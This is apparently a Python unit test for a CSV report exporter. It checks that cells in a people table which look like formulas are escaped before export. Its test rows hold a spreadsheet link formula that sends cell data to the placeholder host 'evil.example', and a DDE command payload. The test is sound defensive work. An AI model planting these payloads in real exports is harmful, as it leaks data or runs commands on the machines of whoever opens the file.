"""The CSV report opens in a spreadsheet: a cell from people's names never runs there."""

import csv
import io

from gridcenter.report.document import Table
from gridcenter.report.formats import csv_text


def test_a_formula_in_a_name_is_shown_not_run_and_numbers_stay_numbers() -> None:
    rows = [
        ['=HYPERLINK("http://evil.example/?"&A1,"Liang")', "-", "-3.5%", "12"],
        ["+cmd|' /C calc'!A0", "@SUM(A1)", "-1,234", "Wang Fang"],
    ]
    sheet = list(csv.reader(io.StringIO(csv_text([Table("people", ["a", "b", "c", "d"], rows)]))))
    assert sheet[1] == ["people", "'" + rows[0][0], "-", "-3.5%", "12"]
    assert sheet[2] == ["people", "'" + rows[1][0], "'@SUM(A1)", "-1,234", "Wang Fang"]
